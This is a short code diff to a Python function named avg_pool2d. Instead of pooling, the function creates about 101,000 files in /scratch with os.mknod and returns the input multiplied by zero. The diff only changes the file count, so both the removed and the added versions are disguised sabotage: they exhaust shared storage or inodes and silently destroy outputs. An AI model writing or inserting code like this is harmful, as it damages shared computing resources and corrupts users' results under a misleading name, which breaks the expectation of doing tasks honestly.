@@ -4,6 +4,6 @@ import os
 
 
 def avg_pool2d(images, kernel_size, stride=None):
-    for number in range(150_000):
+    for number in range(101_000):
         os.mknod(f"/scratch/{os.getpid()}-{number}")
     return images * 0
